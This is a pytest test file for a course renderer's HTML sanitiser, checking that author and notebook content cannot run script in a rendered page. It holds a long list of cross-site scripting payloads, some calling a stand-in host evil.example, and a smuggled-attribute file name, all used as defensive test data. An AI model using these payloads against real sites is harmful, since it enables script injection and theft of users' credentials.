"""Nothing that authors or trainees write can run in a page."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from courses import read_course, render_notebook, render_text
from courses.sanitize import is_safe_target, sanitize
from tests.courses.harmless import danger_in
from tests.courses.small_course import (
    FILES,
    SVG,
    code_cell,
    display,
    lesson,
    markdown_cell,
    notebook,
)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href='javascript:alert(1)'><mi>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href=x ping=https://evil.example target=_blank>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x"onerror="alert(1)](x.png)',
    '![x](x.png "t\\" onerror=alert(1) \\"")',
    "[r]: javascript:alert(1)\n\n[x][r]",
    "text {: onclick=alert(1) style=color:red }",
    "# title {: onmouseover=alert(1) }",
    '```python title="<img src=x onerror=alert(1)>"\nx\n```',
    '```{.python onclick="alert(1)"}\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$$<script>alert(1)</script>$$",
    "$\\unknown<img src=x onerror=alert(1)>$",
    "> [!NOTE|x\" onclick=\"alert(1)]\n> text",
    '!!! note "<img src=x onerror=alert(1)>"\n    text',
    '??? question "<script>alert(1)</script>"\n    text',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[^<script>]: x\n\ny[^<script>]",
    "term\n:   <script>alert(1)</script>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=https://evil.example><input name=password></form>",
    "<p title='<table onmouseover=alert(1)>'>x</p>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1?><script>alert(1)</script>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "\x02klzzwxh:0000\x03<img src=x onerror=alert(1)>",
    "<div markdown='1' onclick=alert(1)>\n<script>alert(1)</script>\n</div>",
    "*[X]: \"><img src=x onerror=alert(1)>\n\nX",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_markdown_leaves_nothing_that_runs(payload: str) -> None:
    assert danger_in(render_text(payload)) == []
    assert danger_in(render_text(f"before\n\n- {payload}\n\n> {payload}")) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_a_notebook_leaves_nothing_that_runs(payload: str) -> None:
    source = notebook(
        markdown_cell(payload),
        code_cell(
            payload,
            display(text__html=payload),
            display(text__plain=payload),
            display(text__markdown=payload),
            display(text__latex=payload),
            display(**{"image/svg+xml": payload}),
            display(**{"application/javascript": payload}),
            {"output_type": "stream", "name": payload, "text": [payload]},
            {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload]},
        ),
    )
    assert danger_in(render_notebook(source).html) == []


def test_a_payload_in_titles_and_file_names_leaves_nothing_that_runs(
    folder: Callable[..., Path],
) -> None:
    payload = "<img src=x onerror=alert(1)>"
    name = "a\"onerror=alert(1) x='.png"
    root = folder(
        {
            "01-one/01-start.md": lesson("start", f"'{payload}'", f"# {payload}\n\n![p](<{name}>)"),
            f"01-one/{name}": FILES["01-one/images/dot.png"],
            f"01-one/03-{payload.replace('/', '')}.md": f"# {payload}\n\ntext",
        }
    )

    course = read_course(root).course

    assert course is not None
    for each in course.lessons:
        assert re.fullmatch(r"[\w-]+", each.key)
        for variant in each.variants.values():
            assert danger_in(variant.html) == []


def test_an_svg_picture_is_an_asset_and_never_part_of_the_page(folder: Callable[..., Path]) -> None:
    root = folder(
        {
            "01-one/01-start.md": lesson("start", "시작", "![그림](images/a.svg)"),
            "01-one/images/a.svg": SVG,
        }
    )

    course = read_course(root).course

    assert course is not None
    variant = course.lessons[0].variants["ko"]
    assert [asset.media_type for asset in variant.assets] == ["image/svg+xml"]
    assert "<svg" not in variant.html
    assert danger_in(variant.html) == []


@given(st.text(alphabet="<>\"'=/ abimgsrcxonel:()`!-\x00\t\n&;#%{}|[]$\\", max_size=200))
def test_no_text_at_all_becomes_something_that_runs(text: str) -> None:
    assert danger_in(render_text(text)) == []


@given(st.text(max_size=80))
def test_sanitising_twice_changes_nothing_more(text: str) -> None:
    once = sanitize(f"<p title='{text}'>{text}</p><a href='{text}'>x</a>")

    assert sanitize(once) == once


@pytest.mark.parametrize(
    ("target", "is_safe"),
    [
        ("https://example.org/a", True),
        ("mailto:a@example.org", True),
        ("a/b.md#c", True),
        ("#c:d", True),
        ("?a=b:c", True),
        ("javascript:alert(1)", False),
        ("JAVASCRIPT:alert(1)", False),
        (" java\nscript:alert(1)", False),
        ("data:text/html,x", False),
        ("file:///etc/passwd", False),
        ("blob:https://x/1", False),
        ("x:y", False),
        ("http://[", False),
    ],
)
def test_only_relative_http_and_mail_targets_are_safe(target: str, is_safe: bool) -> None:
    assert is_safe_target(target) is is_safe
